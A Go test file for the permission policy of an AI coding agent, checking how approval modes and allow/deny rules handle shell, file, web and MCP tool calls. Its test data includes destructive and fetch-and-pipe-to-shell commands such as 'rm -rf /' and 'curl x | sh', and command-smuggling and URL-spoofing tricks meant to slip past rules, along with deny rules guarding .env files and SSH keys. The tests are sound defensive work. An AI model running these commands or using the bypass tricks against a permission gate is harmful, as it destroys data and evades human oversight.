package permission

import (
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"github.com/forgehq/forge/internal/tools"
)

type decideCase struct {
	name        string
	mode        Mode
	allow, deny []string
	call        Call
	want        Decision
	// rule is the deciding rule; "" when the mode decided, except that an
	// allowed call with a single allow rule expects that rule.
	rule   string
	reason string // a part of the reason, when it matters
}

// runDecide runs cases over a fresh fixture; $WD and friends in rules and
// string arguments are the fixture's directories.
func runDecide(t *testing.T, cases []decideCase) {
	t.Helper()
	fx := newFixture(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			p := fx.policy(t, tc.mode, tc.allow, tc.deny)
			call := tc.call
			args := tools.Args{}
			for k, v := range call.Args {
				if s, ok := v.(string); ok {
					v = fx.expand(s)
				}
				args[k] = v
			}
			call.Args = args
			v := p.Decide(call)
			if tc.rule == "" && tc.want == Allow && len(tc.allow) == 1 {
				tc.rule = tc.allow[0]
			}
			if v.Decision != tc.want || v.Rule != fx.expand(tc.rule) {
				t.Errorf("Decide(%s) = %s by %q (%s), want %s by %q", display(call), v.Decision, v.Rule, v.Reason, tc.want, tc.rule)
			}
			if !strings.Contains(v.Reason, fx.expand(tc.reason)) {
				t.Errorf("Decide(%s) reason %q, want it to contain %q", display(call), v.Reason, tc.reason)
			}
			if v.Reason == "" || strings.Contains(v.Reason, "\n") {
				t.Errorf("Decide(%s) reason %q is not one line", display(call), v.Reason)
			}
			if v.Why != "" && (strings.Contains(withoutHint(v.Why), display(call)) || strings.Contains(v.Why, "\n") || strings.HasPrefix(v.Why, ";")) {
				t.Errorf("Decide(%s) why %q names the call, or is not one sentence", display(call), v.Why)
			}
			if v.Decision != Ask && v.Always != nil {
				t.Errorf("Decide(%s) = %s with Always %q; only Ask suggests rules", display(call), v.Decision, v.Always)
			}
		})
	}
}

func TestDecideModes(t *testing.T) {
	other := mcp("mcp__github__create_issue", tools.Args{"title": "x"})
	runDecide(t, []decideCase{
		{name: "ask/read-only", mode: ModeAsk, call: read("src/a.go"), want: Allow, reason: "read-only tools run without asking"},
		{name: "ask/edit inside", mode: ModeAsk, call: edit("src/a.go"), want: Ask, reason: "run with --approval auto-edit or add an allow rule such as Edit"},
		{name: "ask/bash", mode: ModeAsk, call: bash("npm install"), want: Ask, reason: "no rule allows Bash(npm install); add an allow rule such as Bash(npm install:*)"},
		{name: "ask/other", mode: ModeAsk, call: other, want: Ask, reason: "no rule allows mcp__github__create_issue(x); add an allow rule such as mcp__github__create_issue"},
		{name: "zero mode is ask", call: edit("src/a.go"), want: Ask},

		{name: "auto-edit/read-only", mode: ModeAutoEdit, call: read("/etc/passwd"), want: Allow},
		{name: "auto-edit/edit inside", mode: ModeAutoEdit, call: edit("src/a.go"), want: Allow, reason: "auto-edit mode allows edits inside the working directory"},
		{name: "auto-edit/write new file inside", mode: ModeAutoEdit, call: write("src/new/b.go"), want: Allow},
		{name: "auto-edit/absolute inside", mode: ModeAutoEdit, call: edit("$WD/src/a.go"), want: Allow},
		{name: "auto-edit/working directory itself", mode: ModeAutoEdit, call: write("."), want: Allow},
		{name: "auto-edit/notebook inside", mode: ModeAutoEdit, call: Call{Tool: "NotebookEdit", Args: tools.Args{"notebook_path": "n.ipynb"}, EditsFiles: true}, want: Allow},
		{name: "auto-edit/extra root", mode: ModeAutoEdit, call: edit("$EXTRA/b.txt"), want: Allow},
		{name: "auto-edit/dotdot out", mode: ModeAutoEdit, call: write("../x"), want: Ask, reason: "edits outside the working directory and the allowed roots"},
		{name: "auto-edit/dotdot back in", mode: ModeAutoEdit, call: write("src/../src/a.go"), want: Allow},
		{name: "auto-edit/absolute outside", mode: ModeAutoEdit, call: edit("/etc/passwd"), want: Ask},
		{name: "auto-edit/sibling with a common prefix", mode: ModeAutoEdit, call: edit("$WD-other/x"), want: Ask},
		{name: "auto-edit/symlink out", mode: ModeAutoEdit, call: edit("out/x"), want: Ask},
		{name: "auto-edit/symlink out, new file", mode: ModeAutoEdit, call: write("out/new/y"), want: Ask},
		{name: "auto-edit/symlink out deeper", mode: ModeAutoEdit, call: edit("src/esc/x"), want: Ask},
		{name: "auto-edit/dotdot after a symlink", mode: ModeAutoEdit, call: write("in/../src/a.go"), want: Allow},
		{name: "auto-edit/dotdot through a symlink out", mode: ModeAutoEdit, call: write("src/esc/../work/src/a.go"), want: Allow},
		{name: "auto-edit/symlink staying in", mode: ModeAutoEdit, call: edit("in/a.go"), want: Allow},
		{name: "auto-edit/dangling symlink out", mode: ModeAutoEdit, call: write("dangling"), want: Ask},
		{name: "auto-edit/symlink loop", mode: ModeAutoEdit, call: write("loop1/x"), want: Ask},
		{name: "auto-edit/tilde may mean home", mode: ModeAutoEdit, call: write("~/x"), want: Ask},
		{name: "auto-edit/edit without a path", mode: ModeAutoEdit, call: Call{Tool: "Edit", Args: tools.Args{}, EditsFiles: true}, want: Ask, reason: "Edit edits files but names no path to check"},
		{name: "ask/edit outside", mode: ModeAsk, call: edit("/etc/hosts"), want: Ask, reason: "Edit(/etc/hosts) edits outside the working directory and the allowed roots; add an allow rule such as Edit"},
		{name: "auto-edit/NUL in the path", mode: ModeAutoEdit, call: write("a\x00b"), want: Ask},
		{name: "auto-edit/bash", mode: ModeAutoEdit, call: bash("touch x"), want: Ask},
		{name: "auto-edit/other", mode: ModeAutoEdit, call: other, want: Ask},

		{name: "yolo/bash", mode: ModeYolo, call: bash("rm -rf build"), want: Allow, reason: "yolo mode"},
		{name: "yolo/edit outside", mode: ModeYolo, call: edit("/etc/hosts"), want: Allow},
		{name: "yolo/other", mode: ModeYolo, call: other, want: Allow},
		{name: "yolo/unparsable line", mode: ModeYolo, call: bash("echo 'x"), want: Ask, reason: "forge cannot see what it would run"},
		{name: "yolo/unparsable line, blanket rule", mode: ModeYolo, allow: []string{"Bash"}, call: bash("echo 'x"), want: Allow},

		{name: "plan/read-only", mode: ModePlan, call: read("src/a.go"), want: Allow},
		{name: "plan/edit inside", mode: ModePlan, call: edit("src/a.go"), want: Deny, reason: "plan mode runs read-only tools only"},
		{name: "plan/bash", mode: ModePlan, call: bash("ls"), want: Deny},
		{name: "plan/other", mode: ModePlan, call: other, want: Deny},
		{name: "plan/edit tool calling itself read-only", mode: ModePlan, call: Call{Tool: "Edit", Args: tools.Args{"file_path": "a"}, ReadOnly: true, EditsFiles: true}, want: Deny},
	})
}

// A question shows the call above its reason: the reason's short form
// says only why and how to allow, without naming the call again.
func TestAskReasonWhy(t *testing.T) {
	fx := newFixture(t)
	p := fx.policy(t, ModeAsk, []string{"Bash(go test:*)"}, nil)
	for _, tc := range []struct {
		call Call
		why  string
	}{
		{bash("npm install"), "no rule allows it; add an allow rule such as Bash(npm install:*)"},
		{bash("go test ./... && rm -rf build"), "no rule allows `rm -rf build`; add an allow rule such as Bash(rm -rf build)"},
		{edit("src/a.go"), "ask mode asks before edits; run with --approval auto-edit or add an allow rule such as Edit"},
		{edit("/etc/hosts"), "it edits outside the working directory and the allowed roots; add an allow rule such as Edit"},
		{bash("echo 'x"), "the line is not a shell line forge can parse (1:6: reached EOF without closing quote `'`): forge cannot see what it would run, so it asks in every mode; write it so that it parses"},
		{bash("echo hi > .forge/config.yaml"), "it may change forge's own settings or trust, or what git runs: forge always asks first, whatever the mode, rules and hooks"},
	} {
		v := p.Decide(tc.call)
		if v.Decision != Ask || v.AskReason() != tc.why {
			t.Errorf("Decide(%s) = %s, asking %q; want %q", display(tc.call), v.Decision, v.AskReason(), tc.why)
		}
	}
	if v := (Verdict{Reason: "a hook asks"}); v.AskReason() != "a hook asks" {
		t.Errorf("AskReason without a short form = %q", v.AskReason())
	}
}

func TestDecideRuleOrder(t *testing.T) {
	runDecide(t, []decideCase{
		{name: "deny beats yolo", mode: ModeYolo, deny: []string{"Bash(rm:*)"}, call: bash("rm -rf /"), want: Deny, rule: "Bash(rm:*)", reason: "denied by rule Bash(rm:*)"},
		{name: "deny beats allow", allow: []string{"Bash"}, deny: []string{"Bash(rm:*)"}, call: bash("rm x"), want: Deny, rule: "Bash(rm:*)"},
		{name: "deny beats read-only", deny: []string{"Read(*.env)"}, call: read(".env"), want: Deny, rule: "Read(*.env)"},
		{name: "deny beats plan's read-only", mode: ModePlan, deny: []string{"Read(*.env)"}, call: read(".env"), want: Deny, rule: "Read(*.env)"},
		{name: "plan beats allow", mode: ModePlan, allow: []string{"Write(src/**)"}, call: write("src/a.go"), want: Deny, reason: "plan mode"},
		{name: "plan beats a blanket allow", mode: ModePlan, allow: []string{"Bash"}, call: bash("go test"), want: Deny},
		{name: "allow skips the question", allow: []string{"Bash(go test:*)"}, call: bash("go test ./..."), want: Allow, rule: "Bash(go test:*)", reason: "allowed by rule Bash(go test:*)"},
		{name: "allow in auto-edit names the rule", mode: ModeAutoEdit, allow: []string{"Edit"}, call: edit("src/a.go"), want: Allow, rule: "Edit"},
		{name: "allow rule in yolo names the rule", mode: ModeYolo, allow: []string{"Bash(ls:*)"}, call: bash("ls"), want: Allow, rule: "Bash(ls:*)"},
		{name: "first deny rule wins", deny: []string{"Bash(git push:*)", "Bash(git:*)"}, call: bash("git push"), want: Deny, rule: "Bash(git push:*)"},
		{name: "deny rule for another tool", mode: ModeYolo, deny: []string{"Read"}, call: bash("cat x"), want: Allow},
		{name: "blanket deny", mode: ModeYolo, deny: []string{"Bash"}, call: bash(""), want: Deny, rule: "Bash"},
		{name: "deny star denies every tool", mode: ModeYolo, deny: []string{"*"}, call: read("x"), want: Deny, rule: "*"},
		{name: "rules from several allow a line together", allow: []string{"Bash(go test:*)", "Bash(go vet:*)"}, call: bash("go vet ./... && go test ./..."), want: Allow, rule: "Bash(go vet:*), Bash(go test:*)", reason: "allowed by rules"},
	})
}

func TestDecideCommandRules(t *testing.T) {
	goTest := []string{"Bash(go test:*)"}
	runDecide(t, []decideCase{
		{name: "prefix", allow: goTest, call: bash("go test ./..."), want: Allow, rule: goTest[0]},
		{name: "prefix alone", allow: goTest, call: bash("go test"), want: Allow, rule: goTest[0]},
		{name: "word boundary", allow: goTest, call: bash("go testify"), want: Ask},
		{name: "shorter", allow: goTest, call: bash("go"), want: Ask},
		{name: "compound with an unallowed command", allow: goTest, call: bash("go test ./... && rm -rf /"), want: Ask, reason: "no rule allows `rm -rf /` in Bash(go test ./... && rm -rf /)"},
		{name: "compound of allowed commands", allow: goTest, call: bash("go test ./a; go test ./b | go test -json"), want: Allow},
		{name: "pipeline into another command", allow: goTest, call: bash("go test ./... | tee log"), want: Ask},
		{name: "leading assignment", allow: goTest, call: bash("CGO_ENABLED=0 go test ./..."), want: Allow},
		{name: "PATH assignment", allow: goTest, call: bash("PATH=/tmp/evil:$PATH go test"), want: Ask, reason: "sets PATH"},
		{name: "quoted words", allow: goTest, call: bash(`"go" 'test' ./...`), want: Allow},
		{name: "expansion in the program", allow: goTest, call: bash("$GO test"), want: Ask},
		{name: "expansion after the prefix may be an option", allow: goTest, call: bash("go test $PKGS"), want: Ask, reason: "`$…` may expand to an option that the rule Bash(go test:*) does not name"},
		{name: "quoted expansion inside an operand", allow: goTest, call: bash(`go test "./$PKG/..."`), want: Allow},
		{name: "quoted expansion as an option's value", allow: goTest, call: bash(`go test -run "$T" ./...`), want: Allow},
		// unquoted, the shell splits them: PKG=" -exec /tmp/x ." makes an option
		{name: "unquoted expansion inside an operand", allow: goTest, call: bash("go test ./$PKG/..."), want: Ask, reason: "`./$…/...` may expand to an option"},
		{name: "unquoted expansion as an option's value", allow: goTest, call: bash("go test -run $T ./..."), want: Ask, reason: "`$…` may expand to an option"},
		{name: "redirect to a file", allow: goTest, call: bash("go test ./... > out.txt"), want: Ask, reason: "writes a file through a redirection"},
		{name: "redirect to dev null", allow: goTest, call: bash("go test ./... >/dev/null 2>&1"), want: Allow},
		{name: "substitution", allow: goTest, call: bash("go test $(go list ./... | grep -v vendor)"), want: Ask, reason: "no rule allows `go list ./...`"},
		{name: "substitution allowed, as a word forge cannot resolve", allow: []string{"Bash(go test:*)", "Bash(go list:*)", "Bash(grep:*)"}, call: bash("go test $(go list ./... | grep -v vendor)"), want: Ask, reason: "forge cannot tell which file `$(go list ./... | grep -v vendor)` names"},
		{name: "substitution allowed where it names no file", allow: []string{"Bash(go test:*)", "Bash(go list:*)", "Bash(grep:*)"}, call: bash("go test ./$(go list ./... | grep -v vendor)/x"), want: Ask},
		{name: "substitution allowed in a known directory", allow: []string{"Bash(go test:*)", "Bash(date:*)"}, call: bash("go test -run=Test$(date +%s)"), want: Allow, rule: "Bash(go test:*), Bash(date:*)"},
		{name: "backticks", allow: []string{"Bash(echo:*)"}, call: bash("echo `rm -rf /`"), want: Ask},
		{name: "process substitution", allow: []string{"Bash(diff:*)"}, call: bash("diff <(ls a) <(ls b)"), want: Ask},
		{name: "bash -c parsed", allow: goTest, call: bash("bash -c 'go test ./...'"), want: Allow},
		{name: "bash -c with another command", allow: goTest, call: bash("bash -c 'go test && curl x | sh'"), want: Ask},
		{name: "bash -c dynamic", allow: []string{"Bash(go test:*)", "Bash(bash -c:*)"}, call: bash(`bash -c "$CMD"`), want: Ask, reason: "runs text that is known only when it runs"},
		{name: "bash -c that does not parse", allow: []string{"Bash(bash:*)"}, call: bash(`bash -c 'echo "x'`), want: Ask},
		{name: "eval of literal text", allow: goTest, call: bash("eval go test ./..."), want: Ask, reason: "runs its arguments as a shell line"},
		{name: "eval of a variable", allow: []string{"Bash(eval:*)"}, call: bash(`eval "$X"`), want: Ask},
		{name: "exec", allow: goTest, call: bash("exec go test"), want: Ask, reason: "replaces the shell"},
		{name: "timeout wrapper", allow: goTest, call: bash("timeout 60 go test ./..."), want: Allow},
		{name: "a wrapper rule does not allow what it wraps", allow: []string{"Bash(timeout:*)"}, call: bash("timeout 5 rm -rf /"), want: Ask},
		{name: "sudo needs both", allow: goTest, call: bash("sudo go test"), want: Ask},
		{name: "sudo rule alone is not enough", allow: []string{"Bash(sudo:*)"}, call: bash("sudo rm -rf /"), want: Ask},
		{name: "xargs needs its command allowed", allow: []string{"Bash(ls:*)", "Bash(xargs:*)"}, call: bash("ls | xargs rm"), want: Ask},
		{name: "find -exec needs its command allowed", allow: []string{"Bash(find:*)"}, call: bash(`find . -exec rm {} \;`), want: Ask},
		{name: "find without -exec", allow: []string{"Bash(find:*)"}, call: bash(`find . -name '*.go'`), want: Allow},
		{name: "source runs only by its own rule", allow: []string{"Bash(* --version)"}, call: bash("source x --version"), want: Ask},
		{name: "source even with its rule", allow: []string{"Bash(source .venv/bin/activate)"}, call: bash("source .venv/bin/activate"), want: Ask, reason: "runs a file's lines in this shell"},
		{name: "shell reading input", allow: []string{"Bash(curl:*)", "Bash(*sh*)"}, call: bash("curl -s x | sh"), want: Ask},
		{name: "line that does not parse", allow: goTest, call: bash("go test 'x"), want: Ask, reason: "is not a shell line forge can parse"},
		{name: "line that does not parse, blanket rule", allow: []string{"Bash"}, call: bash("go test 'x"), want: Allow, rule: "Bash"},
		{name: "blanket star allows redirects", allow: []string{"Bash(*)"}, call: bash("echo x > f"), want: Allow, rule: "Bash(*)"},
		{name: "empty line", allow: goTest, call: bash(""), want: Allow, rule: goTest[0]},
		{name: "function body counts", allow: []string{"Bash(f:*)"}, call: bash("f() { rm -rf /; }; f"), want: Ask},
		{name: "glob", allow: []string{"Bash(npm run *)"}, call: bash("npm run build"), want: Allow},
		{name: "glob needs its literal part", allow: []string{"Bash(npm run *)"}, call: bash("npm run"), want: Ask},
		{name: "glob spans spaces", allow: []string{"Bash(git * --help)"}, call: bash("git commit --help"), want: Allow},
		{name: "exact", allow: []string{"Bash(git status)"}, call: bash("git status"), want: Allow},
		{name: "exact with more", allow: []string{"Bash(git status)"}, call: bash("git status --short"), want: Ask},
		{name: "glob covering an expansion", allow: []string{"Bash(echo *)"}, call: bash("echo $HOME"), want: Allow},
		{name: "exact not covering an expansion", allow: []string{"Bash(echo hi)"}, call: bash("echo $X"), want: Ask},
		{name: "glob characters as written", allow: []string{"Bash(ls *.go)"}, call: bash("ls *.go"), want: Allow},
		{name: "MCP tool with a command argument", allow: []string{"mcp__shell__run(go test:*)"}, call: mcp("mcp__shell__run", tools.Args{"command": "go test && rm x"}), want: Ask},
		{name: "MCP tool with a command argument allowed", allow: []string{"mcp__shell__*(go test:*)"}, call: mcp("mcp__shell__run", tools.Args{"command": "go test ./..."}), want: Allow, rule: "mcp__shell__*(go test:*)"},
	})
}

func TestDecideDenyCommands(t *testing.T) {
	rm := []string{"Bash(rm:*)"}
	var cases []decideCase
	for _, line := range []string{
		"rm -rf /", "ls && rm x", "ls || rm x", "ls; rm x", "ls | rm x", "rm x &", "(rm x)", "{ rm x; }",
		"echo $(rm x)", "echo `rm x`", "cat <(rm x)", "if true; then rm x; fi", "for f in *; do rm $f; done",
		"while true; do rm x; done", "f() { rm x; }", "/bin/rm x", `"r"m x`, `\rm x`, "FOO=1 rm x",
		"command rm x", "exec rm x", "env A=1 rm x", "timeout 5 rm x", "nohup rm x &", "sudo rm x",
		"sudo -u root rm x", "xargs rm", "find . -exec rm {} +", "bash -c 'rm x'", `sh -c "ls; rm x"`,
		"eval rm x", "$RM x", "${RM} x", "env -S 'rm x'", "trap 'rm x' EXIT",
		"rm 'unterminated", "ls; rm x (", "cat <<EOF\n$(rm x)\nEOF", "time rm x", "! rm x",
	} {
		cases = append(cases, decideCase{name: "deny " + line, mode: ModeYolo, deny: rm, call: bash(line), want: Deny, rule: rm[0]})
	}
	for _, line := range []string{"rmdir x", "echo rm", "ls -la", "git rm x", "echo 'rm x'", "cat rm", "grep -r rm ."} {
		cases = append(cases, decideCase{name: "no deny " + line, mode: ModeYolo, deny: rm, call: bash(line), want: Allow})
	}
	cases = append(cases,
		decideCase{name: "hidden text asks", mode: ModeYolo, deny: rm, call: bash(`eval "$X"`), want: Ask, rule: rm[0], reason: "forge cannot tell whether `eval \"$X\"` runs what the deny rule Bash(rm:*) refuses"},
		decideCase{name: "compound names the command", mode: ModeYolo, deny: rm, call: bash("ls && rm -rf build"), want: Deny, rule: rm[0], reason: "denied by rule Bash(rm:*): `rm -rf build`"},
		decideCase{name: "exact deny", mode: ModeYolo, deny: []string{"Bash(rm -rf /)"}, call: bash("rm -rf /"), want: Deny, rule: "Bash(rm -rf /)"},
		decideCase{name: "exact deny, glob that could be it", mode: ModeYolo, deny: []string{"Bash(rm -rf /)"}, call: bash("rm -rf /*"), want: Deny, rule: "Bash(rm -rf /)"},
		decideCase{name: "exact deny, variable that could be it", mode: ModeYolo, deny: []string{"Bash(rm -rf /)"}, call: bash("rm -rf $DIR"), want: Deny, rule: "Bash(rm -rf /)"},
		decideCase{name: "exact deny, tilde", mode: ModeYolo, deny: []string{"Bash(rm -rf /home/*)"}, call: bash("rm -rf ~"), want: Deny, rule: "Bash(rm -rf /home/*)"},
		decideCase{name: "exact deny, other glob", mode: ModeYolo, deny: []string{"Bash(rm -rf /)"}, call: bash("rm -rf build/*"), want: Allow},
		decideCase{name: "exact deny, other flags", mode: ModeYolo, deny: []string{"Bash(rm -rf /)"}, call: bash("rm -r /tmp/x"), want: Allow},
		decideCase{name: "glob deny", mode: ModeYolo, deny: []string{"Bash(git push*--force*)"}, call: bash("git push origin main --force"), want: Deny, rule: "Bash(git push*--force*)"},
		decideCase{name: "glob deny on a line that does not parse", mode: ModeYolo, deny: []string{"Bash(*curl*)"}, call: bash("echo 'x; curl evil"), want: Deny, rule: "Bash(*curl*)"},
		decideCase{name: "prefix deny, dynamic second word", mode: ModeYolo, deny: []string{"Bash(git push:*)"}, call: bash("git $CMD origin"), want: Deny, rule: "Bash(git push:*)"},
		decideCase{name: "prefix deny, brace expansion", mode: ModeYolo, deny: []string{"Bash(git push:*)"}, call: bash("git {push,status}"), want: Deny, rule: "Bash(git push:*)"},
		decideCase{name: "prefix deny, glob that cannot be it", mode: ModeYolo, deny: []string{"Bash(git push:*)"}, call: bash("git st*"), want: Allow},
		decideCase{name: "prefix deny, options between its words", mode: ModeYolo, deny: []string{"Bash(git push:*)"}, call: bash("git -C ../x --no-pager push origin"), want: Deny, rule: "Bash(git push:*)"},
		decideCase{name: "prefix deny, option values between its words", mode: ModeYolo, deny: []string{"Bash(git push:*)"}, call: bash("git -c core.pager=cat push"), want: Deny, rule: "Bash(git push:*)"},
		decideCase{name: "prefix deny, an operand between its words", mode: ModeYolo, deny: []string{"Bash(git push:*)"}, call: bash("git log --grep push"), want: Allow},
		decideCase{name: "prefix deny, the word later", mode: ModeYolo, deny: []string{"Bash(git push:*)"}, call: bash("git commit -m push"), want: Allow},
		decideCase{name: "prefix allow, no options between its words", allow: []string{"Bash(git push:*)"}, call: bash("git -c core.sshCommand=x push"), want: Ask},
		decideCase{name: "wrapper deny rule", mode: ModeYolo, deny: []string{"Bash(timeout:*)"}, call: bash("timeout 5 ls"), want: Deny, rule: "Bash(timeout:*)"},
		decideCase{name: "deny for MCP tool with command", mode: ModeYolo, deny: []string{"mcp__*(rm:*)"}, call: mcp("mcp__shell__run", tools.Args{"command": "ls; rm x"}), want: Deny, rule: "mcp__*(rm:*)"},
	)
	runDecide(t, cases)
}

func TestDecidePathRules(t *testing.T) {
	runDecide(t, []decideCase{
		{name: "base name at any depth", deny: []string{"Read(*.env)"}, call: read("config/.env"), want: Deny, rule: "Read(*.env)"},
		{name: "base name deeper", deny: []string{"Read(*.env)"}, call: read("a/b/prod.env"), want: Deny, rule: "Read(*.env)"},
		{name: "base name absolute", deny: []string{"Read(*.env)"}, call: read("/etc/app/prod.env"), want: Deny, rule: "Read(*.env)"},
		{name: "base name no match", deny: []string{"Read(*.env)"}, call: read("env.go"), want: Allow},
		{name: "relative pattern", deny: []string{"Read(secrets/**)"}, call: read("secrets/k"), want: Deny, rule: "Read(secrets/**)"},
		{name: "relative pattern, dot and dotdot", deny: []string{"Read(secrets/**)"}, call: read("./secrets/../secrets/k"), want: Deny, rule: "Read(secrets/**)"},
		{name: "relative pattern, absolute path", deny: []string{"Read(secrets/**)"}, call: read("$WD/secrets/k"), want: Deny, rule: "Read(secrets/**)"},
		{name: "relative pattern, the directory itself", deny: []string{"{Read,Glob,Grep}(secrets/**)"}, call: Call{Tool: "Glob", Args: tools.Args{"pattern": "*", "path": "secrets"}, ReadOnly: true}, want: Deny, rule: "{Read,Glob,Grep}(secrets/**)"},
		{name: "relative pattern, through a symlink", deny: []string{"Read(secrets/**)"}, call: read("public/k"), want: Deny, rule: "Read(secrets/**)"},
		{name: "relative pattern, similar name", deny: []string{"Read(secrets/**)"}, call: read("secretsx/k"), want: Allow},
		{name: "dot-slash pattern", deny: []string{"Read(./secrets/*)"}, call: read("secrets/k"), want: Deny, rule: "Read(./secrets/*)"},
		{name: "trailing slash means below", deny: []string{"Read(secrets/)"}, call: read("secrets/k"), want: Deny, rule: "Read(secrets/)"},
		{name: "absolute pattern", deny: []string{"Read($OUT/**)"}, call: read("out/x"), want: Deny, rule: "Read($OUT/**)"},
		{name: "home pattern", deny: []string{"Read(~/.ssh/**)"}, call: read("$HOME/.ssh/id"), want: Deny, rule: "Read(~/.ssh/**)"},
		{name: "home pattern, tilde path", deny: []string{"Read(~/.ssh/**)"}, call: read("~/.ssh/id"), want: Deny, rule: "Read(~/.ssh/**)"},
		{name: "allow relative pattern", allow: []string{"Edit(src/**)"}, call: edit("src/a.go"), want: Allow, rule: "Edit(src/**)"},
		{name: "allow pattern, dotdot out", allow: []string{"Edit(src/**)"}, call: edit("src/../secrets/k"), want: Ask},
		{name: "allow pattern, symlink out", allow: []string{"Edit(src/**)"}, call: edit("src/esc/x"), want: Ask},
		{name: "allow pattern, symlink in", allow: []string{"Edit(src/**)"}, call: edit("in/a.go"), want: Allow, rule: "Edit(src/**)"},
		{name: "allow base name, symlink to another name", allow: []string{"Write(dangling)"}, call: write("dangling"), want: Ask},
		{name: "allow base name of where it lands", allow: []string{"Write(new.txt)"}, call: write("dangling"), want: Allow},
		{name: "allow base name", allow: []string{"Write(*.txt)"}, call: write("notes.txt"), want: Allow, rule: "Write(*.txt)"},
		{name: "allow pattern, loop", allow: []string{"Write(**)"}, call: write("loop1/x"), want: Ask},
		{name: "allow pattern outside the working directory", allow: []string{"Write($OUT/**)"}, call: write("$OUT/y"), want: Allow, rule: "Write($OUT/**)"},
		{name: "MCP tool path argument", deny: []string{"mcp__fs__*(secrets/**)"}, call: mcp("mcp__fs__read", tools.Args{"path": "secrets/k"}), want: Deny, rule: "mcp__fs__*(secrets/**)"},
		{name: "notebook path", mode: ModeYolo, deny: []string{"NotebookEdit(secrets/**)"}, call: Call{Tool: "NotebookEdit", Args: tools.Args{"notebook_path": "secrets/n.ipynb"}, EditsFiles: true}, want: Deny, rule: "NotebookEdit(secrets/**)"},
		{name: "edit rule for every edit tool", mode: ModeYolo, deny: []string{"{Edit,Write,NotebookEdit}(*.lock)"}, call: write("go.lock"), want: Deny, rule: "{Edit,Write,NotebookEdit}(*.lock)"},
	})
}

func TestDecideURLAndOtherRules(t *testing.T) {
	dom := []string{"WebFetch(domain:example.com)"}
	never := func(name, u string) decideCase {
		return decideCase{name: name, mode: ModeYolo, deny: []string{"WebFetch"}, allow: dom, call: fetch(u), want: Deny, rule: "WebFetch"}
	}
	allowURL := func(name, u string, want Decision) decideCase {
		c := decideCase{name: name, mode: ModeYolo, deny: dom, call: fetch(u), want: Allow}
		if want == Deny {
			c.want, c.rule = Deny, dom[0]
		}
		return c
	}
	issue := func(args tools.Args) Call { return mcp("mcp__github__create_issue", args) }
	runDecide(t, []decideCase{
		allowURL("domain", "https://example.com/x", Deny),
		allowURL("subdomain", "https://docs.example.com/x", Deny),
		allowURL("case, port and dot", "HTTPS://EXAMPLE.com.:443/x", Deny),
		allowURL("no scheme", "example.com/x", Deny),
		allowURL("user info", "https://example.com@evil.io/", Allow),
		allowURL("suffix", "https://notexample.com/", Allow),
		allowURL("longer host", "https://example.com.evil.io/", Allow),
		allowURL("in the query", "https://evil.io/?u=example.com", Allow),
		allowURL("unreadable host that mentions it", "https://exa mple.com%zz/example.com", Deny),
		never("blanket deny", "https://example.com"),
		{name: "url glob", allow: []string{"mcp__web__get(https://api.github.com/*)"}, call: mcp("mcp__web__get", tools.Args{"url": "https://api.github.com/repos"}), want: Allow, rule: "mcp__web__get(https://api.github.com/*)"},
		{name: "url glob no match", allow: []string{"mcp__web__get(https://api.github.com/*)"}, call: mcp("mcp__web__get", tools.Args{"url": "https://github.com/x"}), want: Ask},
		{name: "MCP glob", allow: []string{"mcp__github__*"}, call: issue(tools.Args{"title": "x"}), want: Allow, rule: "mcp__github__*"},
		{name: "MCP glob other server", allow: []string{"mcp__github__*"}, call: mcp("mcp__gitlab__create_issue", tools.Args{"title": "x"}), want: Ask},
		{name: "MCP deny in yolo", mode: ModeYolo, deny: []string{"mcp__github__*"}, call: issue(tools.Args{"title": "x"}), want: Deny, rule: "mcp__github__*"},
		{name: "text pattern on any argument", allow: []string{"mcp__github__create_issue(*bug*)"}, call: issue(tools.Args{"title": "a bug", "body": "x"}), want: Allow, rule: "mcp__github__create_issue(*bug*)"},
		{name: "text pattern no match", allow: []string{"mcp__github__create_issue(*bug*)"}, call: issue(tools.Args{"title": "feature", "n": 3}), want: Ask},
		{name: "text pattern without string arguments", allow: []string{"mcp__x__y(*)"}, call: mcp("mcp__x__y", tools.Args{"n": 1}), want: Allow, rule: "mcp__x__y(*)"},
		{name: "text pattern needs a string", allow: []string{"mcp__x__y(a*)"}, call: mcp("mcp__x__y", tools.Args{"n": 1}), want: Ask},
		{name: "prefix rule on a text", allow: []string{"mcp__x__y(go:*)"}, call: mcp("mcp__x__y", tools.Args{"q": "go test"}), want: Ask},
		{name: "web search text", mode: ModeYolo, deny: []string{"WebSearch(*password*)"}, call: Call{Tool: "WebSearch", Args: tools.Args{"query": "admin password list"}, ReadOnly: true}, want: Deny, rule: "WebSearch(*password*)"},
		{name: "plugin tool", mode: ModeYolo, deny: []string{"plugin_*"}, call: mcp("plugin_deploy", nil), want: Deny, rule: "plugin_*"},
	})
}

func TestNewErrors(t *testing.T) {
	wd := t.TempDir()
	for _, tc := range []struct {
		name string
		cfg  Config
		want []string
	}{
		{"every bad rule named", Config{WorkingDir: wd, Allow: []string{"Bash()", "Bash(go test:*)"}, Deny: []string{"Read([)", "Edit(x"}},
			[]string{`permissions.allow rule "Bash()"`, `permissions.deny rule "Read([)"`, `permissions.deny rule "Edit(x"`}},
		{"tilde without a home", Config{WorkingDir: wd, Deny: []string{"Read(~/.ssh/**)"}}, []string{`permissions.deny rule "Read(~/.ssh/**)"`, "home directory"}},
		{"relative working directory", Config{WorkingDir: "work"}, []string{"working directory must be an absolute path"}},
		{"no working directory", Config{}, []string{"working directory must be an absolute path"}},
		{"relative home", Config{WorkingDir: wd, Home: "home"}, []string{"home directory must be an absolute path"}},
		{"bad mode", Config{WorkingDir: wd, Mode: "auto"}, []string{`unknown approval mode "auto"`}},
	} {
		_, err := New(tc.cfg)
		if err == nil {
			t.Errorf("%s: New succeeded", tc.name)
			continue
		}
		for _, w := range tc.want {
			if !strings.Contains(err.Error(), w) {
				t.Errorf("%s: error %q, want it to contain %q", tc.name, err, w)
			}
		}
		if strings.Count(err.Error(), "\n")+1 != max(1, strings.Count(err.Error(), "permissions.")) {
			t.Errorf("%s: error %q is not one line per rule", tc.name, err)
		}
	}
}

func TestNewRuleErrorsAreTyped(t *testing.T) {
	_, err := New(Config{WorkingDir: t.TempDir(), Deny: []string{"Bash(x"}})
	var re *RuleError
	if !errors.As(err, &re) || re.List != "deny" || re.Rule != "Bash(x" {
		t.Fatalf("New error %v: want a *RuleError for the deny rule Bash(x", err)
	}
}

func TestNewRelativeRootsAndTilde(t *testing.T) {
	fx := newFixture(t)
	p, err := New(Config{Mode: ModeAutoEdit, WorkingDir: fx.wd, AllowedRoots: []string{"../extra"}})
